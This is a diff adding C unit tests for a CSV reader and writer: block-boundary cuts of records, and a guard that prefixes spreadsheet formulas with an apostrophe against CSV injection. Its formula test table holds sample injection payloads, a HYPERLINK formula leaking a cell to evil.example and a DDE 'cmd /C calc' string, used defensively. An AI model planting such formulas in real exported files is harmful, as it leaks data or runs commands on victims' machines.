@@ -1,8 +1,8 @@
 /* CSV reading and writing (csvio.c over libcsv): BOM, CRLF and LF, quoted
  * fields with commas, doubled quotes and line breaks (and the line numbers
  * of the records after them), empty files, a 10,000-column row, invalid
- * UTF-8, malformed quoting, records across the 64 KiB read blocks, and the
- * writer read back by the reader. */
+ * UTF-8, malformed quoting, records across the 64 KiB read blocks, the
+ * writer read back by the reader, and the apostrophe before a formula. */
 #include "base/common.h"
 #include "core/csvio.h"
 #include "base/strbuf.h"
@@ -222,6 +222,72 @@ static void test_blocks(void)
 	strbuf_release(&c.out);
 }
 
+/*
+ * A record cut by the 64 KiB read block at each of its bytes: the cut must
+ * not change what is read.  A bare quote in an unquoted field (Bob "B"
+ * Smith) cut there once refused the file; a doubled quote, a quoted line
+ * break and CRLF are cut too, and text after a closing quote stays an
+ * error wherever it is cut.
+ */
+static void test_block_cuts(void)
+{
+	static const struct {
+		const char *row;	/* one record, its line break included */
+		const char *want;	/* its fields as collect_row writes them; NULL: malformed */
+	} rows[] = {
+		{ "q@example.org,AAAAAAAA Bob \"B\" Smith ,x\"\r\n", "q@example.org|AAAAAAAA Bob \"B\" Smith|x\"" },
+		{ "d@example.org,\"say \"\"hi\"\"\",\"a,b\"\r\n", "d@example.org|say \"hi\"|a,b" },
+		{ "e@example.org,\"x\"\",y\"\"z\",E\r\n", "e@example.org|x\",y\"z|E" },
+		{ "c@example.org,\"two\r\nlines\",C\n", "c@example.org|two\r\nlines|C" },
+		{ "p@example.org,  padded  ,\"\"\r\n", "p@example.org|padded|" },
+		{ "b@example.org,\"Alice\"x,\r\n", NULL },
+	};
+	struct collect c = { STRBUF_INIT, 0, 0, 0 };
+	struct strbuf t = STRBUF_INIT, want = STRBUF_INIT;
+	size_t i, cut, len, bad;
+	unsigned long line, row_line;
+	const char *p;
+	long n;
+
+	for (i = 0; i < ARRAY_SIZE(rows); i++) {
+		len = strlen(rows[i].row);
+		bad = 0;
+		for (cut = 0; cut <= len; cut++) {
+			/* One-line records up to 64 KiB - cut, the last one padded to fit. */
+			strbuf_reset(&t);
+			strbuf_addstr(&t, "email,name,x\n");
+			for (line = 2; t.len + 100 < 65536 - cut; line++)
+				strbuf_addf(&t, "m%lu@example.org,Name %lu,\n", line, line);
+			strbuf_addstr(&t, "pad@example.org,");
+			strbuf_addchars(&t, 'p', 65536 - cut - t.len - 2);
+			strbuf_addstr(&t, ",\n");
+			if (t.len != 65536 - cut)
+				BUG("the filler is %zu bytes", t.len);
+			row_line = line + 1;
+			strbuf_addstr(&t, rows[i].row);
+			strbuf_addstr(&t, "z@example.org,Z,\n");
+			for (line = row_line, p = rows[i].row; (p = strchr(p, '\n')) != NULL; p++)
+				line++;
+			strbuf_reset(&want);
+			if (rows[i].want)
+				strbuf_addf(&want, "\n%lu:%s\n%lu:z@example.org|Z|\n", row_line, rows[i].want, line);
+			else
+				strbuf_addf(&want, "error: t.csv:%lu: malformed CSV", row_line);
+			n = parse(t.buf, t.len, &c);
+			if (rows[i].want ? n != (long)row_line + 1 || !strstr(c.out.buf, want.buf) ||
+					   strstr(last_error.buf, "error")
+					 : n != -1 || !strstr(last_error.buf, want.buf))
+				if (!bad++)
+					diag("row %zu cut after %zu bytes: %ld records, %s", i + 1, cut, n,
+					     last_error.buf);
+		}
+		ok(!bad, "row %zu cut by the read block after each of its %zu bytes: read the same", i + 1, len);
+	}
+	strbuf_release(&t);
+	strbuf_release(&want);
+	strbuf_release(&c.out);
+}
+
 static void test_utf8(void)
 {
 	static const struct {
@@ -328,6 +394,68 @@ static void test_writer_bom_field(void)
 	strbuf_release(&c.out);
 }
 
+/*
+ * Formulas (OWASP CSV injection): a field that Excel or LibreOffice would
+ * run is written with an apostrophe in front, and the reader takes it off.
+ */
+static void test_writer_formulas(void)
+{
+	static const struct {
+		const char *field, *written;
+	} cases[] = {
+		{ "=HYPERLINK(\"https://evil.example/?\"&A3,\"Click\")",
+		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\"" },
+		{ "=1+1", "'=1+1" },
+		{ "+33 1 23 45 67 89", "'+33 1 23 45 67 89" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+		{ "\t=1+1", "\"'\t=1+1\"" },
+		{ "\r=1+1", "\"'\r=1+1\"" },
+		{ "-bob@example.org", "'-bob@example.org" },
+		{ "=cmd|' /C calc'!A0@example.org", "'=cmd|' /C calc'!A0@example.org" },
+		{ "'=1+1", "''=1+1" },		/* else it would read back as =1+1 */
+		{ "''-x", "'''-x" },
+		{ "'quoted'", "'quoted'" },	/* no formula after the apostrophe: as it is */
+		{ "'", "'" },
+		{ "a=b", "a=b" },
+		{ "Anne-Marie", "Anne-Marie" },
+	};
+	static const struct {
+		const char *csv, *want;
+	} reads[] = {
+		{ "'=1+1\r\n", "1:=1+1\n" },
+		{ "''=1+1\r\n", "1:'=1+1\n" },
+		{ "\"'@x\",'-1,'+1,\"'\t\"\r\n", "1:@x|-1|+1|\t\n" },
+		{ "'x,'',' =1\r\n", "1:'x|''|' =1\n" },
+	};
+	struct strbuf out = STRBUF_INIT, want = STRBUF_INIT;
+	struct collect c = { STRBUF_INIT, 0, 0, 0 };
+	size_t i;
+
+	for (i = 0; i < ARRAY_SIZE(cases); i++) {
+		strbuf_reset(&out);
+		csvio_add_field(&out, cases[i].field, 1);
+		is_str(out.buf, cases[i].written, "formula guard: field %zu written", i + 1);
+	}
+	strbuf_reset(&out);
+	strbuf_addstr(&want, "1:");
+	for (i = 0; i < ARRAY_SIZE(cases); i++) {
+		csvio_add_field(&out, cases[i].field, i == 0);
+		strbuf_addf(&want, "%s%s", i ? "|" : "", cases[i].field);
+	}
+	csvio_end_record(&out);
+	strbuf_addch(&want, '\n');
+	is_int(parse(out.buf, out.len, &c), 1, "the guarded fields read back as one record");
+	is_str(c.out.buf, want.buf, "  each exactly as it was before the guard");
+	for (i = 0; i < ARRAY_SIZE(reads); i++) {
+		is_int(parse(reads[i].csv, strlen(reads[i].csv), &c), 1, "hand-written apostrophes %zu: one record", i + 1);
+		is_str(c.out.buf, reads[i].want, "  one apostrophe off before a formula character only");
+	}
+	strbuf_release(&out);
+	strbuf_release(&want);
+	strbuf_release(&c.out);
+}
+
 int main(void)
 {
 	set_report_routine(capture);
@@ -338,9 +466,11 @@ int main(void)
 	test_delimiters();
 	test_wide_row();
 	test_blocks();
+	test_block_cuts();
 	test_utf8();
 	test_writer();
 	test_writer_bom_field();
+	test_writer_formulas();
 	strbuf_release(&last_error);
 	return tap_done();
 }
